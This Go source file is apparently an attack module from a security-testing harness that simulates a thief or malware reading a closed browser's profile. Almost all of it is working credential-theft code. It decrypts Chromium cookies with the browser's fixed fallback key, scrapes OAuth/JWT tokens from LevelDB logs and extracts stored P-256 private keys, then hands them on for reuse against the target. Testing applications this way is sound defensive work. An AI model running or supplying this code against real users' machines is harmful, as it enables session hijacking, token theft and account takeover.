package attack

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/ecdsa"
	"crypto/pbkdf2"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/x509"
	"database/sql"
	"encoding/asn1"
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"

	_ "modernc.org/sqlite" // what browsers keep cookies in
)

// disk is X4: read the browser's profile once the browser is closed, as
// malware, a backup or a thief of the machine can (BBA-62).
func (m *mission) disk(ctx context.Context) error {
	profile, ok := m.browser.(Profile)
	if !ok {
		return errors.New("attack: the browser does not show its disk")
	}
	var remains remains
	if err := profile.Restart(ctx, func(folder string) (err error) {
		remains, err = m.search(folder)
		return err
	}); err != nil {
		return fmt.Errorf("attack: read the profile: %w", err)
	}
	m.evidence.Finished = true
	m.step("the browser was closed; of its profile, %d files with %d bytes were read", remains.files, remains.bytes)
	m.step("of the application's cookies, %d were on disk, and %d of them could be decrypted", remains.cookies, len(remains.pairs))
	for _, key := range remains.keys {
		m.step("a private key lay in the profile, as PKCS #8 in clear: %s", m.attacker.keyring(key))
	}
	return m.spend(ctx, sift(map[string]string{placeDisk: strings.Join(remains.pairs, "; "), "disk": strings.Join(remains.tokens, "\n")}))
}

// remains is what was found of one application.
type remains struct {
	files, bytes int
	cookies      int      // in the database
	pairs        []string // those of them that could be decrypted
	tokens       []string
	keys         []*ecdsa.PrivateKey
}

func (m *mission) search(folder string) (remains, error) {
	var found remains
	err := filepath.WalkDir(folder, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		found.files++
		found.bytes += len(text)
		if entry.Name() == "Cookies" && bytes.HasPrefix(text, []byte("SQLite format 3\x00")) {
			if err := found.readCookies(path, hostOf(m.world.Origin(m.target.ID))); err != nil {
				return err
			}
		}
		if filepath.Ext(path) == ".log" {
			text = unframed(text)
		}
		for _, token := range tokensIn(text) {
			// Other applications' tokens lie there too, and are not this one's fault.
			// What is no JWT does not say whose it is: the provider knows.
			if claims := claimsOf(token); claims == nil || m.isFor(claims) {
				found.tokens = append(found.tokens, token)
			}
		}
		for _, key := range keysIn(text) {
			if !slices.ContainsFunc(found.keys, func(k *ecdsa.PrivateKey) bool { return k.Equal(key) }) {
				found.keys = append(found.keys, key)
			}
		}
		return nil
	})
	slices.Sort(found.tokens)
	found.tokens = slices.Compact(found.tokens)
	return found, err
}

// isFor reports whether a token's claims name the application.
func (m *mission) isFor(claims map[string]any) bool {
	client := m.world.ClientID(m.target.ID)
	audience, _ := claims["aud"].([]any)
	return claims["client_id"] == client || claims["azp"] == client || claims["aud"] == client || slices.Contains(audience, any(client))
}

// readCookies reads the database of cookies, and opens what is encrypted with
// the key that Chromium uses where the desktop has no keyring: the same on
// every machine.
func (r *remains) readCookies(path, host string) error {
	address := url.URL{Scheme: "file", Path: path, RawQuery: "mode=ro&immutable=1"}
	database, err := sql.Open("sqlite", address.String())
	if err != nil {
		return err
	}
	defer database.Close()
	rows, err := database.Query("SELECT name, value, encrypted_value FROM cookies WHERE host_key = ?", host)
	if err != nil {
		return err
	}
	defer rows.Close()
	for rows.Next() {
		var name, value string
		var encrypted []byte
		if err := rows.Scan(&name, &value, &encrypted); err != nil {
			return err
		}
		r.cookies++
		if value == "" {
			value = opened(encrypted, host)
		}
		if value != "" {
			r.pairs = append(r.pairs, name+"="+value)
		}
	}
	return rows.Err()
}

// opened decrypts a cookie's value; empty if it cannot be.
func opened(encrypted []byte, host string) string {
	sealed, ok := bytes.CutPrefix(encrypted, []byte("v10"))
	if !ok || len(sealed) == 0 || len(sealed)%aes.BlockSize != 0 {
		return "" // v11: the key is in the desktop's keyring
	}
	key, err := pbkdf2.Key(sha1.New, "peanuts", []byte("saltysalt"), 1, 16) // components/os_crypt
	if err != nil {
		return ""
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return ""
	}
	plain := make([]byte, len(sealed))
	cipher.NewCBCDecrypter(block, bytes.Repeat([]byte{' '}, aes.BlockSize)).CryptBlocks(plain, sealed)
	padding := int(plain[len(plain)-1])
	if padding == 0 || padding > aes.BlockSize {
		return ""
	}
	plain = plain[:len(plain)-padding]
	if bound := sha256.Sum256([]byte(host)); bytes.HasPrefix(plain, bound[:]) { // since version 24 of the database
		plain = plain[len(bound):]
	}
	return string(plain)
}

// unframed takes the frames from a log of LevelDB, which would cut what lies
// across two blocks (leveldb/doc/log_format.md). What is no such log stays as
// it is.
func unframed(log []byte) []byte {
	const block, head = 32 << 10, 7
	var text []byte
	for at := 0; at+head <= len(log); {
		if left := block - at%block; left < head {
			at += left
			continue
		}
		length, kind := int(binary.LittleEndian.Uint16(log[at+4:])), log[at+6]
		if kind == 0 || kind > 4 || at+head+length > len(log) {
			return log
		}
		text = append(text, log[at+head:at+head+length]...)
		at += head + length
	}
	return text
}

// keysIn finds private keys of the curve P-256, in the form in which browsers
// write a CryptoKey: exportable or not is a flag beside it.
func keysIn(text []byte) []*ecdsa.PrivateKey {
	oid, err := asn1.Marshal(asn1.ObjectIdentifier{1, 2, 840, 10045, 2, 1})
	if err != nil {
		return nil
	}
	var keys []*ecdsa.PrivateKey
	const before, most = 12, 200
	for from := 0; ; {
		at := bytes.Index(text[from:], oid)
		if at < 0 {
			return keys
		}
		at += from
		from = at + 1
		for start := max(0, at-before); start < at; start++ {
			var whole asn1.RawValue
			if text[start] != 0x30 {
				continue
			}
			if _, err := asn1.Unmarshal(text[start:min(len(text), start+most)], &whole); err != nil {
				continue
			}
			if key, err := x509.ParsePKCS8PrivateKey(whole.FullBytes); err == nil {
				if curve, ok := key.(*ecdsa.PrivateKey); ok {
					keys = append(keys, curve)
				}
			}
		}
	}
}
